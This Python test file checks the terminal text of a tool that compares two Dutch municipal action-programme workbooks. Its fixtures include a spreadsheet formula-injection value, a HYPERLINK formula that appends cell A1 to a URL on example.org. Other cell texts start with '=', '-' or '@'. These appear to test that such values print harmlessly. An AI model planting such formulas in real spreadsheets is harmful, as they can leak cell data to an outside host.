"""What a comparison tells on a terminal."""

from __future__ import annotations

from msgspec.structs import replace

from progress_report.check_report.comparison_text import comparison_text
from progress_report.comparison.counts import Compared
from progress_report.comparison.model import Comparison, Found, Piece, Renaming, WordingChange
from progress_report.model import CellText
from tests.compared_pair import comparison, figures, without_statuses_and_planning

_SAID = """\
Vergelijking met programma 2022.xlsx, peildatum 1 september 2022: 8 acties toen, 9 nu

  Gebleven                            5
    waarvan ongewijzigd               1
  Opgesplitst of kop geworden         1
  Vervallen                           2
    waarvan zonder reden              1
  Nieuw                               2
  Afgesplitst van een actie van toen  2
  Status beter                        1
  Status slechter                     1
  Status anders                       1
  Later gepland                       1
  Eerder gepland                      1
  Eerste planning                     0
  Andere planning                     0
  Andere tekst                        2
  Ander begrotingsprogramma           1
  Verplaatst                          1
  Thema's hernoemd                    1
  Ambities hernoemd                   1
  Twijfelachtig                       2
  Niet op ID gevonden                 3

Twijfelachtig: 2
  Hoort het bij elkaar? Geef de twee rijen dan hetzelfde ID.
  Zo niet, geef ze dan elk een eigen ID.
  toen rij 3 (W-02), nu rij 3 (W-02): gevonden op tekst
    twijfel: een andere actie lijkt er bijna evenveel op
    was: Maak een woonvisie
    is:  Maak een [korte] woonvisie
    of: toen rij 7 (D-04): Sluit het loket
  toen rij 4 (zonder ID), nu rij 5 (D-01): gevonden op gelijkenis
    twijfel: tekst lijkt maar voor een deel
    was: Plant bomen
    is:  Plant bomen [in de wijk]
    of: nu rij 6 (D-07): Plant struiken

Vervallen: 2
  D-03  =HYPERLINK("http://example.org?x="&A1;"klik") =1+1
    reden ontbreekt
    lijkt op de nieuwe actie in rij 11 (D-08): -Maak een link
  D-04  Sluit het loket
    reden: @Raad: opgegaan in =D-05

Nieuw: 2
  D-07  Plant struiken
  D-08  -Maak een link

Opgesplitst: 1
  D-02  Isoleer dak en gevel
    is:  D-02  Isoleer:
    is:  D-02a  • het dak
    is:  D-02b  • de gevel

Status beter: 1
  W-01  Bouw woningen
    'op schema' -> 'afgerond'

Status slechter: 1
  W-02  Maak een korte woonvisie
    'op schema' -> 'vertraagd'

Status anders: 1
  D-05  Doe mee
    'op schema' -> (leeg)

Status tijd slechter: 1
  W-01  Bouw woningen
    'op schema' -> 'vertraagd'

Later gepland: 1
  W-02  Maak een korte woonvisie
    '2023' -> '2025'

Eerder gepland: 1
  D-05  Doe mee
    '2026' -> '2025'

Andere tekst: 2
  W-02  Maak een korte woonvisie
    was: Maak een woonvisie
    is:  Maak een [korte] woonvisie
  D-01  Plant bomen in de wijk
    was: Plant bomen
    is:  Plant bomen [in de wijk]

Ander begrotingsprogramma: 1
  W-02  Maak een korte woonvisie
    '6' -> '6 en 8'

Verplaatst: 1
  D-05  Doe mee
    was: Duurzaamheid
    is:  Wonen en leven

Thema's hernoemd: 1
  was: Wonen
  is:  Wonen en leven

Ambities hernoemd: 1
  was: Betaalbaar
  is:  Betaalbaar wonen

Niet op ID gevonden, zonder twijfel: 1
  Hoort het bij elkaar? Geef de twee rijen dan hetzelfde ID.
  Zo niet, geef ze dan elk een eigen ID.
  toen rij 9 (D-06), nu rij 10 (D-06): gevonden op thema, ambitie en tekst
    Ga door
"""


def test_the_totals_come_first_and_then_everything_that_changed() -> None:
    assert f"{comparison_text(Compared(comparison(), figures()))}\n" == _SAID


def test_what_was_not_compared_is_not_counted_but_said() -> None:
    said = comparison_text(Compared(without_statuses_and_planning(), figures()))
    assert "Status beter" not in said
    assert "Later gepland" not in said
    assert "  Statussen zijn niet vergeleken: die staan niet in beide werkboeken.\n" in said
    assert "  De planning is niet vergeleken: die staat niet in het eerdere werkboek.\n" in said


def _long() -> Comparison:
    """The comparison with texts and names that no line can hold."""
    found = comparison()
    words = "We werken samen met inwoners en ondernemers aan de straat en de buurt. " * 9
    match = found.matches[1]
    action = replace(match.later.action, id="ID " * 30, title=CellText.of(words + "Nu wel."))
    wording = WordingChange(
        (Piece(f"{words}Nu "), Piece("niet.", changed=True)),
        (Piece(f"{words}Nu "), Piece("wel.", changed=True)),
    )
    later = replace(match.later, action=action)
    gone = replace(found.dropped[0], reason=words, nearest=later)
    return replace(
        found,
        matches=(*found.matches, replace(match, later=later, wording=wording, rival=later)),
        dropped=(*found.dropped, gone),
        ambitions=(Renaming(words, f"{words}nieuw", "Wonen"),),
    )


def test_no_line_is_much_longer_than_a_terminal_is_wide() -> None:
    said = comparison_text(Compared(_long(), figures()))
    assert 90 < max(map(len, said.splitlines())) <= 100


def test_of_a_long_text_the_words_that_changed_are_shown() -> None:
    said = comparison_text(Compared(_long(), figures()))
    assert (
        "    was: … straat en de buurt. Nu [niet.]\n    is:  … straat en de buurt. Nu [wel.]"
        in said
    )


def test_a_row_without_id_is_called_by_its_place_in_the_sheet() -> None:
    found = comparison()
    earlier = found.dropped[0].earlier
    bare = replace(earlier, action=replace(earlier.action, id="", title=CellText.of("Weg")))
    dropped = (replace(found.dropped[0], earlier=bare),)
    said = comparison_text(Compared(replace(found, dropped=dropped), figures()))
    assert "Vervallen: 1\n  rij 6  Weg\n    reden ontbreekt\n" in said


def test_of_a_split_that_is_to_be_looked_at_both_texts_are_shown() -> None:
    split = replace(comparison().matches[4], found=Found.LIKENESS)
    said = comparison_text(Compared(replace(comparison(), matches=(split,)), figures()))
    assert (
        "  toen rij 5 (D-02), nu rij 7 (D-02): gevonden op gelijkenis\n"
        "    was: Isoleer dak en gevel\n"
        "    is:  Isoleer:"
    ) in said
